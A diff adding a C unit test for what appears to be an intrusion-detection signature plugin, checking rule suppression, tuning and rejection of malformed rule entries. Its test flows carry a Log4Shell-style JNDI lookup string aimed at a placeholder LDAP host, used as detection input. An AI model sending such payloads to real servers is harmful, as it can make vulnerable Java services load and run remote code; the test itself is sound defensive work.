@@ -115,6 +115,51 @@ static void foreign_rules_get_their_meaning_from_class_and_severity(void **state
     mmr_testhost_free(th);
 }
 
+static void rules_are_kept_quiet_for_machines_until_a_day_and_tuned(void **state)
+{
+    (void)state;
+    struct mmr_error err = {.struct_size = sizeof err};
+    static const struct {
+        const char *key, *entry;
+        int findings; /* of three flows of one client, 203.0.113.9 to 192.168.1.5, in November 2023 */
+    } rows[] = {
+        {"suppress", "sid=9000002 owner=kei reason=scanner of ours", 0},
+        {"suppress", "sid=9000002 src=203.0.113.0/24 dst=192.168.1.5 until=2023-11-15 owner=kei reason=test of the week", 0},
+        {"suppress", "sid=9000002 src=203.0.113.0/24 until=2023-11-13 owner=kei reason=over since yesterday", 3},
+        {"suppress", "sid=9000002 dst=203.0.113.9 owner=kei reason=another machine", 3},
+        {"suppress", "sid=9000003 owner=kei reason=another rule", 3},
+        {"tune", "sid=9000002 count=3 seconds=60 track=src owner=kei reason=noisy", 1},
+        {"tune", "sid=9000002 count=2 seconds=60 track=rule src=198.51.100.1 owner=kei reason=another machine", 3},
+    };
+    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
+        const char *const cfg[] = {rows[k].key, rows[k].entry, NULL};
+        struct mmr_testhost *th = mmr_testhost_new();
+        int i = mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err);
+        if (i < 0)
+            fail_msg("row %zu: %s", k, err.text);
+        for (uint64_t id = 1; id <= 3; id++) {
+            struct mmr_flow flow = a_flow(id);
+            feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
+            assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
+        }
+        if (mmr_testhost_count(th, "finding") != rows[k].findings)
+            fail_msg("row %zu (%s): %d findings", k, rows[k].entry, mmr_testhost_count(th, "finding"));
+        mmr_testhost_free(th);
+    }
+    static const char *const bad[][2] = {{"suppress", "owner=a reason=b"}, {"suppress", "sid=1 reason=b"}, {"suppress", "sid=1 owner=a"},
+                                         {"suppress", "sid=1 src=nobody owner=a reason=b"}, {"suppress", "sid=1 until=soon owner=a reason=b"},
+                                         {"suppress", "sid=1 count=1 owner=a reason=b"}, {"suppress", "sid=1 process=x.exe owner=a reason=b"},
+                                         {"tune", "sid=1 count=3 owner=a reason=b"}, {"tune", "sid=1 count=0 seconds=5 owner=a reason=b"},
+                                         {"tune", "sid=1 count=1 seconds=5 track=all owner=a reason=b"}, {"suppress", "quiet please"}};
+    for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
+        const char *const cfg[] = {bad[k][0], bad[k][1], "pack", "false", NULL};
+        struct mmr_testhost *th = mmr_testhost_new();
+        if (mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err) != MMR_ECONFIG || !strstr(err.text, bad[k][1]))
+            fail_msg("'%s' was not refused by name: %s", bad[k][1], err.text);
+        mmr_testhost_free(th);
+    }
+}
+
 static void wrong_configuration_is_refused_and_reload_swaps_the_rules(void **state)
 {
     (void)state;
@@ -146,6 +191,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(first_match_is_a_finding_and_every_match_an_alert),
         cmocka_unit_test(foreign_rules_get_their_meaning_from_class_and_severity),
+        cmocka_unit_test(rules_are_kept_quiet_for_machines_until_a_day_and_tuned),
         cmocka_unit_test(wrong_configuration_is_refused_and_reload_swaps_the_rules),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
